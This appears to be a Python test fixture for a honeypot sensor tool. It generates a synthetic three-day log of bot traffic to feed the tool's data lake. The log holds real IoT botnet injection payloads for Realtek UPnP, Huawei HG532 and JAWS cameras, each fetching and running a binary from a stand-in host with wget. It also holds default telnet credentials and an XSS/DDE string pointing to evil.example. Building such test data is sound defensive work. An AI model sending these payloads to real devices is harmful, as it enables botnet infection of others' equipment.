"""A lake of what a responding sensor heard in three days: bots with known numbers of hosts, passwords, ports, days."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from pathlib import Path
from typing import Final

from teiten import intake, settings
from teiten.lake import Lake
from teiten.respond import record
from teiten.respond.record import Ends
from teiten.settings import Settings

OWN: Final = "198.51.100.23"
SECOND: Final = "198.51.100.24"
BEGIN: Final = dt.datetime(2026, 11, 1, tzinfo=dt.UTC)
REALTEK: Final = (
    b"POST /picsdesc.xml HTTP/1.1\r\nHost: %s:52869\r\n\r\n<u:AddPortMapping><NewInternalClient>`cd /tmp;wget "
    b"http://192.0.2.9/%s;sh %s`</NewInternalClient></u:AddPortMapping>"
)
HUAWEI: Final = (
    b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: %s\r\n\r\n"
    b"<NewStatusURL>$(/bin/busybox wget -g 192.0.2.9 -r /mips)</NewStatusURL>"
)
CAMERA: Final = b"GET /shell?cd+/tmp;wget+http://192.0.2.9/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: %s:81\r\n\r\n"
HOSTILE: Final = (
    b"GET /<script>alert(1)</script>\x1b[2J\r\n=cmd|' /C calc'!A0 http://evil.example/x HTTP/1.1\r\nHost: %s\r\n\r\n"
)
BINARY: Final = b"\x00\x01\x02ABC\xff" + bytes([198, 51, 100, 23]) + b"\x00" + bytes(range(40))


def talk(at: dt.datetime, src: str, sport: int, dport: int, *words: bytes, dst: str = OWN) -> Iterator[bytes]:
    """A connection's lines."""
    ends = Ends(f"{hash((at, src, sport, dport)) & 0xFFFFFFFFFFFFFFFF:016x}", src, sport, dst, dport, "none")
    now = at.timestamp()
    yield record.line(ends, "open", now)
    for n, word in enumerate(words):
        yield record.line(ends, "said", now + 0.1 * (n + 1), n=n, at=0, data=word)
    yield record.line(ends, "closed", now + 1, why="ended", received=sum(map(len, words)), kept=0, sent=0, answers=0)


def log() -> Iterator[bytes]:
    """Ten hosts go for 81 and 52869, the first six for 37215 too; twenty others try telnet; one is hostile, one logs in."""
    for n in range(10):
        src, name = f"8.8.4.{n + 1}", b"bot%d" % n
        at = BEGIN + dt.timedelta(days=n % 3, hours=n)
        own = OWN if n % 2 else SECOND
        yield from talk(at, src, 40000, 81, CAMERA % own.encode(), dst=own)
        yield from talk(at + dt.timedelta(minutes=1), src, 40001, 52869, REALTEK % (own.encode(), name, name), dst=own)
        if n < 6:
            yield from talk(at + dt.timedelta(minutes=2), src, 40002, 37215, HUAWEI % own.encode(), dst=own)
    for n in range(20):
        at = BEGIN + dt.timedelta(hours=n)
        user, password = [(b"root", b"xc3511"), (b"admin", b"admin")][n % 2]
        words = (b"\xff\xfc\x01" + user + b"\r\n", password + b"\r\n", b"enable\r\n")
        yield from talk(at, f"1.1.1.{n + 1}", 50000, 23, *words)
    yield from talk(BEGIN, "9.9.9.9", 1, 8080, HOSTILE % OWN.encode())
    yield from talk(BEGIN, "9.9.9.9", 2, 8081, BINARY)
    yield from talk(BEGIN, "9.9.9.10", 3, 80, b"GET / HTTP/1.0\r\nAuthorization: Basic YWRtaW46MTIzNA==\r\n\r\n")


def lake_of(folder: Path) -> Settings:
    (folder / "heard.log").write_bytes(b"".join(log()))
    (folder / "teiten.toml").write_text('zone = "UTC"\nlake = "lake"\n[sensor.trap]\npaths = ["heard.log"]\n')
    found = settings.load(config=folder / "teiten.toml")
    lake = Lake.open_or_create(found.lake, "UTC")
    assert not intake.ingest(lake, [str(folder / "heard.log")], found).failed
    return found
